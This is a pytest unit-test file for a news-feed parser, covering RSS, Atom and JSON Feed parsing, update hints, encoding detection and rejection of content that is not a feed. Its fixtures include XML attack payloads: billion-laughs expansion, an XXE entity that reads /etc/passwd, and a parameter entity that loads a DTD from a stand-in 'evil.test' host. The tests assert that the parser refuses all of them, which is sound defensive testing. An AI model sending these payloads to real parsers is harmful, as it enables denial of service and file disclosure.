"""Unit tests of pipeline.feeds.parse: entries, hints, bozo feeds, entity bombs, HTML pages."""
from __future__ import annotations

import codecs

import pytest

from pipeline.errors import FeedError
from pipeline.feeds.parse import SY_PERIOD_SECONDS, check_entities, html_to_text, parse_feed, sniff

URL = "http://news.example.test/feed.xml"

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel>
  <title>Valley Courier</title>
  <link>http://news.example.test/</link>
  <ttl>45</ttl>
  <sy:updatePeriod>hourly</sy:updatePeriod>
  <sy:updateFrequency>4</sy:updateFrequency>
  <item>
    <title>Bridge reopens at the &lt;b&gt;river&lt;/b&gt; crossing</title>
    <link>http://news.example.test/2024/bridge</link>
    <guid isPermaLink="false">courier-1001</guid>
    <pubDate>Tue, 04 Jun 2024 08:30:00 +0000</pubDate>
    <description>&lt;p&gt;Lorries crossed &amp;amp; traders cheered.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Relative link</title>
    <link>/2024/relative</link>
    <pubDate>Mon, 03 Jun 2024 08:30:00 +0000</pubDate>
  </item>
  <item>
    <title>No link, no permalink</title>
    <guid isPermaLink="false">opaque-7</guid>
  </item>
  <item>
    <title>Duplicate of the first</title>
    <link>http://news.example.test/2024/bridge-again</link>
    <guid isPermaLink="false">courier-1001</guid>
  </item>
</channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Frontera Diario</title>
  <id>urn:example:frontera</id>
  <updated>2024-06-04T10:00:00Z</updated>
  <entry>
    <title>Cruce fronterizo en Ciudad Hidalgo</title>
    <id>urn:example:frontera:1</id>
    <link rel="alternate" href="https://frontera.example.test/cruce"/>
    <updated>2024-06-04T09:00:00Z</updated>
    <content type="html">&lt;p&gt;Cientos de personas cruzaron el río.&lt;/p&gt;</content>
  </entry>
</feed>
""".encode("utf-8")


def test_rss_entries_become_article_refs():
    parsed = parse_feed(RSS, feed_url=URL, feed_id="f1")
    assert parsed.title == "Valley Courier"
    assert parsed.version == "rss20"
    assert not parsed.bozo
    links = [e.link for e in parsed.entries]
    assert links == ["http://news.example.test/2024/bridge", "http://news.example.test/2024/relative",
                     "http://news.example.test/2024/bridge-again"]
    first = parsed.entries[0]
    assert first.guid == "courier-1001"
    assert first.feed_id == "f1" and first.feed_url == URL
    assert first.title == "Bridge reopens at the river crossing"
    assert first.summary == "Lorries crossed & traders cheered."
    assert first.published == "2024-06-04T08:30:00+00:00"
    # an entry without a link or permalink is skipped (counted); a guid repeated by an entry
    # with another link and title is no identity: that entry is kept under guid + digest
    assert parsed.skipped_entries == 1 and parsed.dropped == {"no_link": 1}
    assert parsed.entries[1].guid == parsed.entries[1].link  # no guid: the link stands in
    assert parsed.entries[2].guid.startswith("courier-1001#") and parsed.entries[2].title == "Duplicate of the first"
    assert len(parsed.published_ts) == 2


def test_ttl_and_sy_update_period_hints():
    parsed = parse_feed(RSS, feed_url=URL, feed_id="f1")
    assert parsed.ttl_s == 45 * 60
    assert parsed.update_period_s == SY_PERIOD_SECONDS["hourly"] / 4
    assert (parsed.sy_update_period, parsed.sy_update_frequency) == ("hourly", 4)
    assert parsed.min_interval_s == 45 * 60  # the larger of the two


def test_atom_entry_summary_from_content():
    parsed = parse_feed(ATOM, feed_url=URL, feed_id="f2")
    assert parsed.version == "atom10"
    (entry,) = parsed.entries
    assert entry.link == "https://frontera.example.test/cruce"
    assert entry.guid == "urn:example:frontera:1"
    assert entry.summary == "Cientos de personas cruzaron el río."
    assert entry.published == "2024-06-04T09:00:00+00:00"
    assert parsed.ttl_s is None and parsed.update_period_s is None and parsed.min_interval_s is None


def test_bozo_feed_still_yields_its_entries():
    broken = b"""<rss version="2.0"><channel><title>Broken & co</title>
    <item><title>First</title><link>http://news.example.test/a</link></item>
    <item><title>Second</title><link>http://news.example.test/b</link></item>
    </channel>"""  # bare ampersand and no closing </rss>
    parsed = parse_feed(broken, feed_url=URL, feed_id="f3")
    assert parsed.bozo
    assert parsed.bozo_reason == "xml_error"
    assert [e.link for e in parsed.entries] == ["http://news.example.test/a", "http://news.example.test/b"]


def test_empty_but_valid_feed_is_not_an_error():
    parsed = parse_feed(b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>', feed_url=URL, feed_id="f")
    assert parsed.entries == [] and parsed.title == "Quiet"


@pytest.mark.parametrize("content", [b"", b"   \n\t", b"<!-- only a comment -->\n"])
def test_empty_documents(content):
    with pytest.raises(FeedError) as info:
        parse_feed(content, feed_url=URL, feed_id="f")
    assert info.value.reason == "empty"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>&secret;</title></channel></rss>
"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE,
                                 b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><rss/>',
                                 b'<!DOCTYPE rss [<!ENTITY big "' + b"x" * 5000 + b'">]><rss/>'],
                         ids=["billion-laughs", "external", "parameter", "large"])
def test_entity_bombs_are_refused_before_parsing(doc):
    with pytest.raises(FeedError) as info:
        parse_feed(doc, feed_url=URL, feed_id="f")
    assert info.value.reason == "entity_bomb"


def test_entity_bomb_in_utf16_is_refused():
    doc = codecs.BOM_UTF16_LE + BILLION_LAUGHS.decode().replace('<?xml version="1.0"?>', "").encode("utf-16-le")
    with pytest.raises(FeedError) as info:
        parse_feed(doc, feed_url=URL, feed_id="f")
    assert info.value.reason == "entity_bomb"


def test_flat_short_entity_is_allowed():
    doc = b"""<!DOCTYPE rss [
  <!ENTITY id "tag:example.com,">
]>
    <rss version="2.0"><channel><item><guid isPermaLink="false">&id;2006:/a</guid>
    <link>http://news.example.test/a</link></item></channel></rss>"""
    parsed = parse_feed(doc, feed_url=URL, feed_id="f")
    assert parsed.entries[0].guid == "tag:example.com,2006:/a"


def test_check_entities_counts_declarations():
    many = "".join(f'<!ENTITY e{i} "v">' for i in range(40))
    with pytest.raises(FeedError):
        check_entities(many)
    assert check_entities('<!ENTITY a "b"><!ELEMENT rss ANY>') is None


@pytest.mark.parametrize("page", [
    b"<!DOCTYPE html>\n<html><head><title>Home</title></head><body><p>Welcome</p></body></html>",
    b"\xef\xbb\xbf  <!-- cms -->\n<HTML lang=en><body>Hi</body></HTML>",
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
])
def test_html_page_is_not_a_feed(page):
    with pytest.raises(FeedError) as info:
        parse_feed(page, feed_url=URL, feed_id="f")
    assert info.value.reason == "not_a_feed"


def test_unknown_xml_is_not_a_feed():
    with pytest.raises(FeedError) as info:
        parse_feed(b'<?xml version="1.0"?><invoice><total>3</total></invoice>', feed_url=URL, feed_id="f")
    assert info.value.reason == "not_a_feed"


def test_xhtml_doctype_before_rss_root_is_a_feed():
    doc = (b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x">'
           b"<rss><channel><title>found</title></channel></rss>")
    assert sniff(doc) == "rss"
    assert parse_feed(doc, feed_url=URL, feed_id="f").title == "found"


def test_charset_from_header_is_used():
    body = '<rss version="2.0"><channel><title>Caf\u00e9</title></channel></rss>'.encode("iso-8859-1")
    parsed = parse_feed(body, feed_url=URL, feed_id="f", headers={"Content-Type": "application/rss+xml; charset=iso-8859-1"})
    assert parsed.title == "Caf\u00e9"


def test_html_to_text():
    assert html_to_text("<p>A &amp; B</p>\n\n<br/>C") == "A & B C"
    assert html_to_text("") == ""


def test_wrong_declared_encoding_still_reads_the_text():
    doc = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Caf\u00e9 cr\u00e8me</title>'
           "<item><title>Se\u00f1or Pe\u00f1a visita la frontera</title><link>http://x.example.test/a</link></item>"
           "</channel></rss>").encode("latin-1")
    parsed = parse_feed(doc, feed_url=URL, feed_id="f")
    assert parsed.bozo and parsed.bozo_reason in ("encoding_override", "encoding_detected")
    assert parsed.title == "Caf\u00e9 cr\u00e8me"
    assert parsed.entries[0].title == "Se\u00f1or Pe\u00f1a visita la frontera"


def test_missing_encoding_is_detected():
    text = "\u6211\u5e0c\u671b\u8fd9\u4e2a\u6587\u4ef6\u5f88\u5bb9\u6613\u88ab\u7ffb\u8bd1\u6210\u4e2d\u6587\uff0c\u5e76\u6709\u52a9\u4e8e\u6539\u8fdb\u8f6f\u4ef6\u3002" * 3
    doc = f'<feed xmlns="http://www.w3.org/2005/Atom"><title>{text}</title></feed>'.encode("gb18030")
    parsed = parse_feed(doc, feed_url=URL, feed_id="f")
    assert parsed.title == text
    assert parsed.bozo_reason == "encoding_detected"


JSON_FEED = b"""{
  "version": "https://jsonfeed.org/version/1.1",
  "title": "Border Desk",
  "home_page_url": "https://desk.example.test/",
  "items": [
    {"id": "1", "url": "https://desk.example.test/a", "title": "Crossing reopens",
     "content_html": "<p>Trucks <b>moved</b> again.</p>", "date_published": "2024-06-04T08:30:00Z"},
    {"id": "https://desk.example.test/b", "title": "No url, permalink id", "summary": "Short."},
    {"id": "3", "title": "No link at all"},
    "not an object"
  ]
}"""


def test_json_feed():
    parsed = parse_feed(JSON_FEED, feed_url=URL, feed_id="j")
    assert parsed.version == "json1" and parsed.title == "Border Desk"
    assert [(e.guid, e.link) for e in parsed.entries] == [("1", "https://desk.example.test/a"),
                                                           ("https://desk.example.test/b", "https://desk.example.test/b")]
    assert parsed.entries[0].summary == "Trucks moved again."
    assert parsed.entries[0].published == "2024-06-04T08:30:00+00:00"
    assert parsed.skipped_entries == 2


@pytest.mark.parametrize("doc,reason", [
    (b'{"hello": "world"}', "not_a_feed"),
    (b'{"version": "https://jsonfeed.org/version/1", "items": [', "json_error"),
    (b"%PDF-1.4 binary junk", "not_a_feed"),
    (b"\x89PNG\r\n\x1a\n\x00\x00", "not_a_feed"),
])
def test_other_content_is_classified(doc, reason):
    with pytest.raises(FeedError) as info:
        parse_feed(doc, feed_url=URL, feed_id="f")
    assert info.value.reason == reason


def test_entries_are_capped():
    from pipeline.feeds.parse import MAX_ENTRIES

    items = "".join(f"<item><link>http://x.example.test/{i}</link></item>" for i in range(MAX_ENTRIES + 25))
    parsed = parse_feed(f'<rss version="2.0"><channel>{items}</channel></rss>'.encode(), feed_url=URL, feed_id="f")
    assert len(parsed.entries) == MAX_ENTRIES and parsed.skipped_entries == 25


def test_doctype_padded_past_the_sniff_window_is_refused():
    from pipeline.feeds.parse import SNIFF_BYTES

    padding = b"<!-- " + b"x" * SNIFF_BYTES + b" -->"
    hidden = b'<!DOCTYPE rss [' + padding + b'<!ENTITY a "&b;&b;"><!ENTITY b "xx">]><rss version="2.0"/>'
    with pytest.raises(FeedError) as info:
        parse_feed(hidden, feed_url=URL, feed_id="f")
    assert info.value.reason == "entity_bomb"
    with pytest.raises(FeedError) as info:
        parse_feed(padding + b'<rss version="2.0"><channel><title>x</title></channel></rss>', feed_url=URL, feed_id="f")
    assert info.value.reason == "not_a_feed"
